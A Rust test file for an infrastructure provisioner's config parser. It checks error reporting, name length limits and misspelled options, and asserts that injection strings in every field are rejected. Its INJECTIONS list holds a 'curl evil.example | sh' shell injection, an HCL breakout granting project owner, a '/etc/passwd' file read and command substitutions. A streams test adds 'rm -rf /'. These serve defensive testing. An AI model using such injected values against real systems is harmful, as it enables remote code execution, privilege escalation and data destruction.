//! Invalid configs: every problem reported at once, with key, value and rule; injection attempts in
//! every string field are refused by validation.

use provisioner::config;

fn error(text: &str) -> String {
    config::parse("test.yaml", text).unwrap_err().to_string()
}

#[test]
fn every_problem_is_reported_at_once() {
    let text = r#"
project_id: Acme
region: moon-central1
bucket:
  name: Google-Bucket
  storage_class: HOT
  retention_days: 0
feed_prefix: onepassword-audit
checkpoint_prefix: onepassword-audit/state
streams: [auditevents, logins, auditevents]
events_api: http://events.example.com
service_accounts:
  collector: sa
  invoker: sa
topic: goog-topic
schedule:
  cron: "every hour"
  time_zone: "mars"
collector:
  page_size: 5000
  lookback_hours: 0
secret: "token secret"
colour: blue
"#;
    insta::assert_snapshot!(error(text));
}

#[test]
fn malformed_yaml_names_the_location() {
    let message = error("project_id: [unclosed\n");
    assert!(
        message.contains("test.yaml is not a valid config"),
        "{message}"
    );
    assert!(message.contains("line"), "{message}");
    let message =
        error("project_id: acme-secops-prod\nregion: us-central1\ncollector:\n  page_size: many\n");
    assert!(
        message.contains("page_size") || message.contains("invalid type"),
        "{message}"
    );
}

/// Values an attacker (or a typo) could use to break out of an HCL string or a shell word.
const INJECTIONS: &[&str] = &[
    "x\" }\nresource \"google_project_iam_member\" \"owner\" {",
    "${file(\"/etc/passwd\")}",
    "%{ if true }x%{ endif }",
    "a'; curl evil.example | sh; echo '",
    "$(id)",
    "`id`",
    "a\nb",
    "a b",
];

const STRING_FIELDS: &[&str] = &[
    "project_id",
    "region",
    "bucket.name",
    "bucket.location",
    "bucket.storage_class",
    "feed_prefix",
    "signinattempts_prefix",
    "itemusages_prefix",
    "checkpoint_prefix",
    "service_accounts.collector",
    "service_accounts.invoker",
    "topic",
    "schedule.job_name",
    "schedule.cron",
    "schedule.time_zone",
    "events_api",
    "collector.service_name",
    "collector.repository",
    "collector.image",
    "collector.version",
    "collector.release_image",
    "secret",
    "terraform.state_bucket",
    "terraform.state_prefix",
    "secops.service_account",
    "secops.source_deletion",
    "secops.instance.project",
    "secops.instance.location",
    "secops.instance.customer_id",
    "github.repository",
    "github.environment",
];

fn with_field(key: &str, value: &str) -> String {
    let mut root: yaml_serde::Value =
        yaml_serde::from_str("project_id: acme-secops-prod\nregion: us-central1\n").unwrap();
    let mut parts = key.split('.').peekable();
    let mut node = &mut root;
    while let Some(part) = parts.next() {
        let map = node.as_mapping_mut().unwrap();
        if parts.peek().is_none() {
            map.insert(part.into(), value.into());
            break;
        }
        if !map.contains_key(part) {
            let mut child = yaml_serde::Mapping::new();
            if part == "instance" {
                // A valid instance, so only the field under test is wrong.
                child.insert("project".into(), "acme-secops-siem".into());
                child.insert("location".into(), "us".into());
                child.insert(
                    "customer_id".into(),
                    "0a1b2c3d-4e5f-4a6b-8c7d-9e0f1a2b3c4d".into(),
                );
            }
            map.insert(part.into(), yaml_serde::Value::Mapping(child));
        }
        node = map.get_mut(part).unwrap();
    }
    yaml_serde::to_string(&root).unwrap()
}

#[test]
fn injection_attempts_in_every_string_field_are_refused() {
    for field in STRING_FIELDS {
        for attempt in INJECTIONS {
            let text = with_field(field, attempt);
            let result = config::parse("test.yaml", &text);
            let Err(config::ConfigError::Invalid { problems, .. }) = result else {
                panic!("{field} = {attempt:?} was accepted: {result:?}");
            };
            assert!(
                problems.iter().any(|p| p.key == *field),
                "{field} = {attempt:?}: {problems:?}"
            );
        }
    }
    insta::assert_snapshot!(error(&with_field("bucket.name", INJECTIONS[0])));
}

#[test]
fn streams_entries_are_checked_too() {
    let text = "project_id: acme-secops-prod\nregion: us-central1\nstreams: [\"auditevents'; rm -rf /\"]\n";
    assert!(error(text).contains("is not a stream"));
}

/// String entries of list fields.
const LIST_FIELDS: &[&str] = &["streams", "alerting.emails", "alerting.channels"];

#[test]
fn injection_attempts_in_list_entries_are_refused() {
    for field in LIST_FIELDS {
        let (section, key) = field.split_once('.').unwrap_or(("", field));
        for attempt in INJECTIONS {
            let list = format!("[{}]", serde_json::to_string(attempt).unwrap());
            let text = if section.is_empty() {
                format!("project_id: acme-secops-prod\nregion: us-central1\n{key}: {list}\n")
            } else {
                format!(
                    "project_id: acme-secops-prod\nregion: us-central1\n{section}:\n  {key}: {list}\n"
                )
            };
            let result = config::parse("test.yaml", &text);
            let Err(config::ConfigError::Invalid { problems, .. }) = result else {
                panic!("{field} = [{attempt:?}] was accepted: {result:?}");
            };
            assert!(
                problems
                    .iter()
                    .any(|p| p.key == *field && p.value == *attempt),
                "{field} = [{attempt:?}]: {problems:?}"
            );
        }
    }
}

/// Every string the full example sets (so every string the config has) is covered by the
/// injection tests above: a new field cannot skip them.
#[test]
fn the_injection_tests_cover_every_string_field() {
    fn leaves(prefix: &str, value: &serde_json::Value, out: &mut Vec<String>) {
        match value {
            serde_json::Value::Object(map) => {
                for (key, child) in map {
                    let path = if prefix.is_empty() {
                        key.clone()
                    } else {
                        format!("{prefix}.{key}")
                    };
                    leaves(&path, child, out);
                }
            }
            serde_json::Value::String(_) => out.push(prefix.to_owned()),
            serde_json::Value::Array(items) if items.iter().any(|i| i.is_string()) => {
                out.push(format!("{prefix}[]"))
            }
            _ => {}
        }
    }
    let full = config::load(std::path::Path::new(concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/examples/full.yaml"
    )))
    .unwrap();
    let mut fields = Vec::new();
    leaves("", &serde_json::to_value(&full).unwrap(), &mut fields);
    assert!(fields.len() > 30, "{fields:?}");
    for field in fields {
        let covered = match field.strip_suffix("[]") {
            Some(list) => LIST_FIELDS.contains(&list),
            None => STRING_FIELDS.contains(&field.as_str()),
        };
        assert!(covered, "{field} has no injection test");
    }
}

#[test]
fn derived_names_must_fit_their_limits() {
    let base = "project_id: acme-secops-prod\nregion: us-central1\n";
    let long_bucket = "b".repeat(57);
    let with_github =
        format!("{base}bucket:\n  name: {long_bucket}\ngithub:\n  repository: acme/secops\n");
    assert!(
        error(&with_github).contains("BUCKET-builds"),
        "{}",
        error(&with_github)
    );
    let without_github = format!("{base}bucket:\n  name: {long_bucket}\n");
    assert!(config::parse("test.yaml", &without_github).is_ok());
    let fits = format!("{base}topic: t{}\n", "x".repeat(242));
    assert!(config::parse("test.yaml", &fits).is_ok());
    let too_long = format!("{base}topic: t{}\n", "x".repeat(243));
    assert!(error(&too_long).contains("-dead-letter"));
}

/// A misspelled member of each closed set (storage class, source deletion option, stream) does not
/// stop the parse: each is reported with the spellings it could have been, next to the config's
/// unrelated problems, in the file's order.
#[test]
fn misspelled_choices_are_reported_with_the_others_naming_the_allowed_spellings() {
    let text = r#"
project_id: Acme
region: us-central1
bucket:
  storage_class: standard
streams: [auditevents, SignInAttempts]
collector:
  page_size: 0
secops:
  source_deletion: always
"#;
    let Err(config::ConfigError::Invalid { problems, .. }) = config::parse("test.yaml", text)
    else {
        panic!("accepted: {text}");
    };
    let found: Vec<(&str, &str, &str)> = problems
        .iter()
        .map(|p| (p.key.as_str(), p.value.as_str(), p.rule.as_str()))
        .collect();
    assert_eq!(
        found,
        [
            (
                "project_id",
                "Acme",
                "is not a project id: 6-30 lowercase letters, digits or hyphens, starting with a letter, not ending with a hyphen"
            ),
            (
                "bucket.storage_class",
                "standard",
                "must be STANDARD, NEARLINE, COLDLINE or ARCHIVE"
            ),
            (
                "streams",
                "SignInAttempts",
                "is not a stream: use auditevents, signinattempts or itemusages"
            ),
            (
                "collector.page_size",
                "0",
                "must be between 1 and 1000 (the Events API's limit)"
            ),
            (
                "secops.source_deletion",
                "always",
                "must be never (the bucket's lifecycle rule deletes objects) or on_success (SecOps deletes what it ingested)"
            ),
        ]
    );
}

/// Validation never reads a misspelled stream as a stream (reading one panics): it has no feed
/// prefix to overlap another's, and its repetition is reported like any other.
#[test]
fn a_misspelled_stream_is_reported_never_read() {
    let text = "project_id: acme-secops-prod\nregion: us-central1\nstreams: [auditevents, logins, logins]\n";
    let Err(config::ConfigError::Invalid { problems, .. }) = config::parse("test.yaml", text)
    else {
        panic!("accepted: {text}");
    };
    let found: Vec<(&str, &str)> = problems
        .iter()
        .map(|p| (p.key.as_str(), p.rule.as_str()))
        .collect();
    assert_eq!(
        found,
        [
            (
                "streams",
                "is not a stream: use auditevents, signinattempts or itemusages"
            ),
            (
                "streams",
                "is not a stream: use auditevents, signinattempts or itemusages"
            ),
            ("streams", "is listed twice"),
        ]
    );
}

#[test]
fn accounts_in_parallel_goes_up_to_64() {
    let example = std::fs::read_to_string(
        std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("examples/accounts.yaml"),
    )
    .unwrap();
    let with = |n: &str| {
        assert!(example.contains("  accounts_in_parallel: 2\n"));
        example.replacen(
            "  accounts_in_parallel: 2\n",
            &format!("  accounts_in_parallel: {n}\n"),
            1,
        )
    };
    let config = config::parse("64.yaml", &with("64")).unwrap();
    assert_eq!(config.collector.accounts_in_parallel, 64);
    let message = error(&with("65"));
    assert!(
        message.contains("collector.accounts_in_parallel")
            && message.contains("65")
            && message.contains("between 1 and 64"),
        "{message}"
    );
}
